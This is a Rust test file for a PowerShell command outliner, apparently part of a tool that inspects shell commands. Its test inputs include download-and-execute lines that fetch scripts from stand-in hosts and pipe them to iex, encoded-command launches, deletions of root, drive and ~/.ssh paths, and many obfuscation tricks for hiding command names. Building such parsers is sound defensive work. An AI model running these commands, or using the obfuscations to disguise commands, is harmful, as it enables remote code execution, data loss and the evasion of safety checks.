//! One line of PowerShell, one line of what was made of it.

use super::outlined;

/// Reads `text`, which must be without problems, and compares its outline.
#[track_caller]
fn check(text: &str, expected: &str) {
    let (found, problems) = outlined(text);
    assert_eq!(found, expected, "of {text:?}");
    assert!(problems.is_empty(), "{text:?} has {problems:?}");
}

#[test]
fn commands_and_their_words() {
    check("Get-Date", "(Get-Date)");
    check(
        "Remove-Item -Path ../other -Recurse -Force",
        "(Remove-Item -Path ../other -Recurse -Force)",
    );
    check("git reset --hard", "(git reset --hard)");
    check("7z x foo.7z", "(7z x foo.7z)");
    check(r".\build.ps1 -x", r"(.\build.ps1 -x)");
    check(r"..\tools\x.exe a", r"(..\tools\x.exe a)");
    check("rm a,b -r", "(rm a b -r)");
    check("rm a , b", "(rm a b)");
    check("rm a, b, `\n c", "(rm a b c)");
    check(r#"rm "a"b"#, "(rm a b)");
    check(r#"rm a"b c"d"#, "(rm a'b c'd)");
    check("rm 'it''s'", "(rm it's)");
    check("rm foo#bar # comment", "(rm foo#bar)");
    check("Get-Date <# x #> -a", "(Get-Date -a)");
    check("foo `\n bar", "(foo bar)");
    check("Remove-Item(x)", "(Remove-Item $((x)))");
    check("dir>x", "(dir) >x");
    check("rm -r -fo .", "(rm -r -fo .)");
    check("rm /", "(rm /)");
    check(r"rm C:\*", r"(rm C:\*)");
    check(r"rm \\server\share\x", r"(rm \\server\share\x)");
    check("npm i @babel/core @x", "(npm i @babel/core $x[@])");
    check(r#"rm --% "a b" c%d% | foo"#, "(rm 'a b' c%d%) | (foo)");
    check("cmd --% /c rd /s x\nrm y", "(cmd /c rd /s x); (rm y)");
    check(r#"cmd /c "rd /s /q x""#, "(cmd /c 'rd /s /q x')");
    check("powershell -EncodedCommand AAAA", "(powershell -EncodedCommand AAAA)");
    check("using module ./x.psm1", "(using module ./x.psm1)");
    check("%{rm x}", "(% {((rm x)))");
    check("rm a=b", "(rm a=b)");
    check("foo - -- -", "(foo - -- -)");
    check("rm $ a$", "(rm $ a$)");
    check("echo 1.5 10.0.0.1", "(echo 1.5 10.0.0.1)");
}

#[test]
fn calls() {
    check(r"& 'C:\Program Files\x.exe' a b", r"('C:\Program Files\x.exe' a b)");
    check("& Remove-Item x", "(Remove-Item x)");
    check("& $cmd -a $b", "($cmd -a $b)");
    check("& { rm x } 1 2", "({((rm x)) 1 2)");
    check("&{rm x}", "({((rm x)))");
    check("&('r'+'m') x", "(rm x)");
    check("& (gcm r?)", "($((gcm r?)))");
    check(r". .\profile.ps1", r"(. .\profile.ps1)");
    check(". $PROFILE", "(. $PROFILE)");
    check(". { rm x }", "(. {((rm x)))");
    check(".('r'+'m') x", "(. rm x)");
    check(r#"& "a$b" c"#, "(a$b c)");
    check("& $x.Path c", "($x:…{ Path} c)");
}

#[test]
fn hidden_names() {
    check("Rem`ove-Item x", "(Remove-Item x)");
    check("R`em`ove-It''em x", "(Remove-Item x)");
    check(r#"Re"move"-Item x"#, "(Remove-Item x)");
    check("‘smart’ | % { “dou$x” }", "expr smart | (% {(expr dou$x))");
    check("rm –Recurse —Force x", "(rm -Recurse -Force x)");
    check("rm –Path:'a b'", "(rm -Path:'a b')");
    check(r#"iex "R`emove-Item x""#, "(iex R'emove-Item x')");
    check(r#"iex "`u{52}m x""#, "(iex R'm x')");
    check("iex ('Remove'+'-Item x')", "(iex Remove'-Item x')");
    check("iex ('{1}{0}' -f 'm x','r')", "(iex r'm x')");
    check(r#"iex ("{0}{1}" -f $a, 'b')"#, "(iex $ab)");
    check("iex ('r','m x' -join '')", "(iex r'm x')");
    check("iex ('r','x' -join 'm ')", "(iex r'm 'x)");
    check("iex (-join ('r','m'))", "(iex rm)");
    check("iex ([char]114+[char]0x6d+' x')", "(iex rm' x')");
    check("iex (-join [char[]](114,109))", "(iex rm)");
    check("iex $('rm'+' x')", "(iex rm' x')");
    check(r#"iex "$('rm') x""#, "(iex rm' x')");
    check("rm a`*b", "(rm a*b)");
    check("rm `-Recurse", "(rm -Recurse)");
}

#[test]
fn arguments_in_brackets() {
    check("rm (gci x), b,c", "(rm $((gci x)) b c)");
    check("rm (gci x).FullName", "(rm $((gci x))?)");
    check("rm ('a','b')", "(rm a b)");
    check("rm @('a','b') @args", "(rm a b $args[@])");
    check("rm @(gci x)", "(rm $((gci x)))");
    check(r#"rm ("a","b" | sort)"#, "(rm $(expr a b | (sort)))");
    check("rm $(Get-Location)/foo", "(rm $((Get-Location)) /foo)");
    check("foo { rm x } {}", "(foo {((rm x)) {())");
    check("foo @{a=1; b={ rm x }}", "(foo ?{((rm x)))");
    check("rm -Path:x -Confirm:$false", "(rm -Path:x -Confirm:$false)");
    check(
        r#"rm -Path:(gci x) -Path:"a b" -b:{ rm y }"#,
        "(rm -Path:$((gci x)) -Path:'a b' -b:{((rm y)))",
    );
    check("rm -Path:@('a','b')", "(rm -Path:a b)");
    check("rm -Path: x", "(rm -Path: x)");
}

#[test]
fn patterns_and_homes() {
    check("rm a[bc]d* ?.txt", "(rm a[bc]d* ?.txt)");
    check("rm [x [a-", "(rm [x [a-)");
    check(r#"rm 'a*' "b?" c`*"#, "(rm a* b? c*)");
    check(r"rm ~ ~/x ~\y ~foo", r"(rm ~ ~/x ~\y ~foo)");
    check("?{ $_ }", "(? {(expr $_))");
    check(
        "gci -r *.log | ?{$_.Length -gt 1mb} | rm -fo",
        "(gci -r *.log) | (? {(expr ?$_:…{ Length}1mb)) | (rm -fo)",
    );
}

#[test]
fn variables() {
    check("rm $x $_ $? $$ $^", "(rm $x $_ $? $$ $^)");
    check(
        r"rm $x\foo $env:TEMP\* ${env:USERPROFILE}\x",
        r"(rm $x\foo $env:TEMP\* $env:USERPROFILE\x)",
    );
    check(r#"rm $HOME/.ssh "$HOME\.ssh""#, r"(rm $HOME/.ssh $HOME\.ssh)");
    check("rm $global:x ${script:y} $using:z", "(rm $x $y $z)");
    check(r#"rm $x"foo""#, "(rm $xfoo)");
    check("rm $x.FullName, $y.z", "(rm $x:…{ FullName} $y:…{ z})");
    check("rm $x[0] $x['a']['b'] $x.a.b", "(rm $x:…{ 0} ?$x:…{ a}b $x:…{ a}?)");
    check("rm $xé.y", "(rm $xé:…{ y})");
    check(
        r#"echo "$x.y $x[0] ${a b} $env:X $x: $x::y $ 5$""#,
        "(echo $x'.y '$x'[0] '$a b' '$env:X' '$x': '$x'::y $ 5$')",
    );
    check(
        r#"echo "a$(rm b)c" "$($x.Name)" "$(1;2)""#,
        "(echo a$((rm b))c $x:…{ Name} $(expr 1; expr 2))",
    );
    check(r#"echo "x`$y" "say ""hi""" "`t""#, "(echo x$y 'say \"'hi\" '\t')");
    check("rm @args @global:y", "(rm $args[@] $y[@])");
}

#[test]
fn here_strings() {
    check("$x = @'\nhello 'x' $y\n'@; rm $x", "(x='hello 'x' $y'); (rm $x)");
    check("iex @\"\nrm $y\n\"@", "(iex 'rm '$y)");
    check("iex @\"\nrm \"$(rm z)\"\n\"@", r#"(iex 'rm "'$((rm z))")"#);
    check("iex @'\n'@", "(iex '')");
    check("iex @'\na\n\nb\n'@ c", "(iex 'a\n\nb' c)");
}

#[test]
fn pipelines_and_joins() {
    check(
        "gci ../other | % { Remove-Item $_ -Force }",
        "(gci ../other) | (% {((Remove-Item $_ -Force)))",
    );
    check("'' | Out-File src/main.rs", "expr '' | (Out-File src/main.rs)");
    check("1,2 | %{rm $_}", "expr 1 2 | (% {((rm $_)))");
    check("1..5 | % { rm $_ }", "expr ?15 | (% {((rm $_)))");
    check("$x | rm", "expr $x | (rm)");
    check("(gc x) | sc x", "(gc x) | (sc x)");
    check("foo |\n bar", "(foo) | (bar)");
    check("foo\n| bar", "(foo) | (bar)");
    check("foo\n&& bar\n|| baz", "(foo) && (bar) || (baz)");
    check("foo |\n# comment\nbar", "(foo) | (bar)");
    check("a && b || c; d &", "(a) && (b) || (c); (d) &");
    check("a & b", "(a) &; (b)");
    check("a &&\nb", "(a) && (b)");
    check("a; b;; c\nd", "(a); (b); (c); (d)");
    check("irm https://x.example/i.ps1 | iex", "(irm https://x.example/i.ps1) | (iex)");
    check(
        "Get-Process | Where-Object Name -eq foo | kill",
        "(Get-Process) | (Where-Object Name -eq foo) | (kill)",
    );
    check(
        "foreach-object { rm x } | foreach { rm y }",
        "(foreach-object {((rm x))) | (foreach {((rm y)))",
    );
}

#[test]
fn redirections() {
    check("'' > src/main.rs", "{expr ''} >src/main.rs");
    check("foo > a >> b 2> c 3>> d", "(foo) >a >>b 2>c 3>>d");
    check("foo 2>&1", "(foo) 2>&1");
    check("foo *> all", "(foo) >all");
    check("foo *>> all", "(foo) >>all");
    check("foo *>&1 > $null", "(foo) >&1 >$null");
    check("echo a>b 2>$null", "(echo a) >b 2>$null");
    check(r#"(gc a) > "b c""#, "{(gc a)} >'b c'");
    check("> x foo", "(foo) >x");
    check("$x = foo > bar", "(x=$((foo) >bar))");
    check("[IO.File]::ReadAllText('a') > b", "{([IO.File]::ReadAllText a)} >b");
    check("foo > (gi x)", "(foo) >$((gi x))");
}

#[test]
fn dot_net() {
    check("[IO.File]::Delete('x')", "([IO.File]::Delete x)");
    check("[IO.Directory]::Delete('../other', $true)", "([IO.Directory]::Delete ../other $true)");
    check("[ IO.File ]::Delete('x')", "([IO.File]::Delete x)");
    check("[IO.File] ::Delete('x')", "([IO.File]::Delete x)");
    check("[IO.File]:: Delete('x')", "([IO.File]::Delete x)");
    check(
        r#"[System.IO.File]::WriteAllText("$x\y", (gc z))"#,
        r"([System.IO.File]::WriteAllText $x\y $((gc z)))",
    );
    check("[IO.File]::$m('x')", "($[IO.File]:…::$m x)");
    check(r#"[IO.File]::("Del"+"ete")('x')"#, "($[IO.File]:…::Delete x)");
    check("[Collections.Generic.List[string]]::new()", "([Collections.Generic.List[string]]::new)");
    check("[Environment]::NewLine", "expr $[Environment]::NewLine:…");
    check("[int]", "expr $[int]:…");
    check("[scriptblock]::Create('rm x').Invoke()", "($(([scriptblock]::Create 'rm x')).Invoke)");
    check("& ([scriptblock]::Create('rm x'))", "($(([scriptblock]::Create 'rm x')))");
    check("[Ref].Assembly.GetType('x').GetField('y')", "($(($[Ref]:…?.GetType x)).GetField y)");
    check("$x.Delete($true)", "($x.Delete $true)");
    check("$x.a.Delete()", "($x:…{ a}.Delete)");
    check("$x[0].Delete()", "($x:…{ 0}.Delete)");
    check("${x}?.Delete()", "($x.Delete)");
    check("$t::Delete('x')", "($t::Delete x)");
    check("(Get-Item x).Delete()", "($((Get-Item x)).Delete)");
    check(r#""x".Foo(1)"#, "(x.Foo 1)");
    check("('a','b').ForEach({ rm $_ })", "($(expr a b).ForEach {((rm $_)))");
    check("(1,2).ForEach{ rm $_ }", "($(expr 1 2).ForEach {((rm $_)))");
    check(r#"$obj."Del$x"($true)"#, "($obj.Del$x $true)");
    check("$obj.$m($true)", "($obj.$m $true)");
    check(
        "(New-Object Net.WebClient).DownloadString('u') | iex",
        "($((New-Object Net.WebClient)).DownloadString u) | (iex)",
    );
    check(
        r#"iex (New-Object Net.WebClient).DownloadString("http://$h/x")"#,
        "(iex $(($((New-Object Net.WebClient)).DownloadString http://$h/x)))",
    );
    check("Write-Host $x.Foo('a').Bar", "(Write-Host $(($x.Foo a))?)");
    check("foo $x.Where({ rm y }) z", "(foo $(($x.Where {((rm y)))) z)");
    check("$x.Foo(\n 'a',\n 'b'\n)", "($x.Foo a b)");
    check("[void]$x.Remove('a')", "($x.Remove a)");
    check("[void](rm x)", "(rm x)");
}

#[test]
fn expressions() {
    check("'a'+'b'", "expr ab");
    check("'a'+$x+1", "expr a$x1");
    check("1+2", "expr ?12");
    check("'a','b' + 'c'", "expr a b c");
    check("@('a') + 'b' + 'c'", "expr a b c");
    check("@() + 'a' + 'b'", "expr a b");
    check("('a','b') + ('c','d') -join ''", "expr abcd");
    check("'a' + ('b','c')", "expr ?abc");
    check("$x -replace 'a','b'", "expr ?$xab");
    check("$x -eq 5 -and (rm y)", "expr ?$x5$((rm y))");
    check("!$x", "expr ?$x");
    check("-not (Test-Path x)", "expr ?$((Test-Path x))");
    check("$x ? 'a' : (rm b)", "expr ?$xa$((rm b))");
    check("$x ?? (rm y)", "expr ?$x$((rm y))");
    check("$i++; --$i", "expr ?$i; expr ?$i");
    check(r#""a" * 5"#, "expr ?a5");
    check("-5 - 3", "expr ?-53");
    check("1.5e3, 0x1F, 1kb", "expr 1.5e3 0x1F 1kb");
    check("'{0:x}' -f 5", "expr ?{0:x}5");
    check("'{0}{5}' -f 'a'", "expr ?{0}{5}a");
    check(",$x", "expr $x");
    check("$x -is [int] -or $y -as [string]", "expr ?$x$[int]:…$y$[string]:…");
    check("$x –eq 5", "expr ?$x5");
    check("(gc x) -replace 'a','b' | sc x", "expr ?$((gc x))ab | (sc x)");
    check("(rm x)", "(rm x)");
    check("$(rm x; rm y)", "{(rm x); (rm y)}");
    check("@(rm x)", "(rm x)");
    check("((rm x))", "(rm x)");
    check("($x)", "expr $x");
    check("{ rm x }", "expr {((rm x))");
    check("[int]$x + 1", "expr $x1");
    check("$x[(rm y)]", "expr $x:…{ $((rm y))}");
    check("5 + (rm x) * 2", "expr ?5$((rm x))2");
}

#[test]
fn assignments() {
    check("$x = 'a'", "(x=a)");
    check("$x='a'+'b'", "(x=ab)");
    check(r#"$env:PATH = "a;$env:PATH""#, "(env:PATH=a;$env:PATH)");
    check("$x = Get-Item y | select -First 1", "(x=$((Get-Item y) | (select -First 1)))");
    check("$x += 'a','b'", "(x+=[ a b])");
    check("$x -= 1", "(x+=1)");
    check("$x ??= rm a", "(x+=$((rm a)))");
    check("$x =\n 5", "(x=5)");
    check("$x = 1,\n2", "(x=[ 1 2])");
    check("$x.y = 5", "(x+=5)");
    check("$a[0] = rm z", "(a+=$((rm z)))");
    check("$a[(rm x)] = 5", "expr $a:…{ $((rm x))}; (a+=5)");
    check("$a.b[1].c = 3", "(a+=3)");
    check("$a, $b = 1, 2", "(a=1 b=2)");
    check("$a, $b = foo", "(a=$((foo)) b=?)");
    check("$a = $b = 5", "(a=$((b=5)))");
    check("[int]$n = 5", "(n=5)");
    check(
        "[Net.ServicePointManager]::SecurityProtocol = 3",
        "([Net.ServicePointManager]::SecurityProtocol+=3)",
    );
    check("[ValidateScript({ rm x })]$y = 3", "expr $((rm x))$y; (y=3)");
    check("$null = rm x", "(null=$((rm x)))");
    check("$x = @()", "(x=[])");
    check("$x = @{}", "(x=[])");
    check(
        "$p = @{Path='../other'; Recurse=$true}; Remove-Item @p",
        "(p=[ -Path:../other -Recurse:$true]); (Remove-Item $p[@])",
    );
    check(
        "$p = [ordered]@{\n 'a b' = 1,2\n (rm k) = rm y\n $z = @{q=1}\n}",
        "(p=[ -'a b':1 2 -$((rm k)):$((rm y)) -$z:?])",
    );
    check("$f = { rm $args[0] }", "(f={((rm $args:…{ 0})))");
    check("$x = if ($a) { rm b } else { 3 }", "(x=$(choice [expr $a => (rm b)] [=> expr 3]))");
    check("$x = [IO.File]::ReadAllText('a') + 'b'", "(x=$(([IO.File]::ReadAllText a))b)");
    check("($x = rm y)", "(x=$((rm y)))");
    check("$script:x = 1; ${a b} = 2", "(x=1); (a b=2)");
}

#[test]
fn choices() {
    check(
        "if ($a -eq 1) { rm a } elseif (Test-Path b) { rm b } else { rm c }",
        "choice [expr ?$a1 => (rm a)] [(Test-Path b) => (rm b)] [=> (rm c)]",
    );
    check("IF($a){rm a}\n\nElse\n{ rm b }", "choice [expr $a => (rm a)] [=> (rm b)]");
    check("if (1) { rm a } rm b", "choice [expr 1 => (rm a)]; (rm b)");
    check("if\n(1)\n{ rm a }", "choice [expr 1 => (rm a)]");
    check(
        "switch ($x) { 'a' { rm 1 } b { rm 2; break } default { rm 3 } }",
        "choice $x [a => (rm 1)] [b => (rm 2); (break)] [=> (rm 3)]",
    );
    check(
        "switch -Regex -File (gi x) { '^a' { rm 1 } {$_ -gt 3} { rm 2 } }",
        "choice $((gi x)) [^a => (rm 1)] [expr ?$_3 => (rm 2)]",
    );
    check("switch (rm x) { 1 { } (rm y) { } }", "choice $((rm x)) [1 => ] [$((rm y)) => ]");
    check("try { rm a } catch { rm b }", "{{(rm a)}; choice [=> (rm b)]}");
    check(
        "try { rm a } catch [IO.IOException], [Exception] { rm b } catch { rm d } finally { rm c }",
        "{{(rm a)}; choice [[IO.IOException] [Exception] => (rm b)] [=> (rm d)]; {(rm c)}}",
    );
    check("try\n{ rm a }\nfinally\n{ rm b }", "{{(rm a)}; {(rm b)}}");
    check("trap { rm x }", "choice [=> (rm x)]");
    check("trap [Exception] { continue }", "choice [[Exception] => (continue)]");
}

#[test]
fn loops() {
    check(
        "foreach ($f in Get-ChildItem *.x) { rm $f }",
        "loop f= $((Get-ChildItem *.x)) {(rm $f)}",
    );
    check("foreach ($f in 'a','b') { rm $f }", "loop f= a b {(rm $f)}");
    check(
        "foreach ([string]$f in $list | sort) { rm $f }",
        "loop f= $(expr $list | (sort)) {(rm $f)}",
    );
    check("ForEach -Parallel ($f in $x) { rm $f }", "loop f= $x {(rm $f)}");
    check(
        "for ($i=0; $i -lt 5; $i++) { rm $i }",
        "{(i=0); loop while expr ?$i5 {(rm $i); expr ?$i}}",
    );
    check("for (;;) { rm x }", "loop {(rm x)}");
    check("while ($true) { rm a; break }", "loop while expr $true {(rm a); (break)}");
    check("while ($l = read) { rm $l }", "loop while (l=$((read))) {(rm $l)}");
    check("while(1){rm a}rm b", "loop while expr 1 {(rm a)}; (rm b)");
    check("do { rm a } while (Test-Path x)", "loop while (Test-Path x) {(rm a)}");
    check("do { rm a }\nuntil (rm x)", "loop while (rm x) {(rm a)}");
    check(":outer foreach ($a in $b) { continue outer }", "loop a= $b {(continue outer)}");
}

#[test]
fn leaving() {
    check("return Get-Item x", "(Get-Item x)");
    check("return $x", "(return $x)");
    check("return", "(return)");
    check("return;rm x", "(return); (rm x)");
    check("exit 1", "(exit 1)");
    check("exit", "(exit)");
    check(r#"throw "x $y""#, "(throw 'x '$y)");
    check("throw (rm x)", "(rm x)");
    check("return [IO.File]::Delete('x')", "([IO.File]::Delete x)");
}

#[test]
fn definitions() {
    check("function f { rm x }", "fn f {(rm x)}");
    check(
        "function Foo-Bar([int]$a = (rm y), $b) { rm $a }",
        "fn Foo-Bar {(a=$((rm y))); (rm $a)}",
    );
    check("function global:f\n{ rm x }", "fn f {(rm x)}");
    check(
        "function f { param($z = 4) begin { rm 1 } process { rm 2 } end { rm 3 } clean { rm 4 } }",
        "fn f {(z=4); (rm 1); (rm 2); (rm 3); (rm 4)}",
    );
    check("filter f { $_ }", "fn f {expr $_}");
    check("workflow w { parallel { rm a } }", "fn w {(rm a)}");
    check("param([string]$x = 'y', $z)", "(x=y)");
    check(
        "[CmdletBinding()] param([Parameter(Mandatory=$true, Position=0)][string]$x = 'y')",
        "expr $[CmdletBinding()]:…; (x=y)",
    );
    check(
        "[CmdletBinding(SupportsShouldProcess)]\nparam(\n $x,\n [switch]$y\n)\nrm $x",
        "expr $[CmdletBinding(SupportsShouldProcess)]:…; (rm $x)",
    );
    check("param([ValidateScript({ rm q })]$x)", "expr $((rm q))");
    check("foo { param($x) rm $x }", "(foo {((rm $x)))");
    check(
        "class A : B { [int]$x = (rm z); hidden $y\n static [void] Go([string]$p) { rm $p } A() : base(1) { } }",
        "{fn Go {(rm $p)}; fn A {expr 1}; fn A {(x=$((rm z)))}}",
    );
    check("class A { Go() { rm x } }", "{fn Go {(rm x)}}");
    check("enum E { A = 1; B }", "{}");
    check("data { rm x }", "(rm x)");
    check("begin { rm a } end { rm b }", "(rm a); (rm b)");
    check("configuration C { Node x { File y { } } }", "fn C {(Node x {((File y {())))}");
}
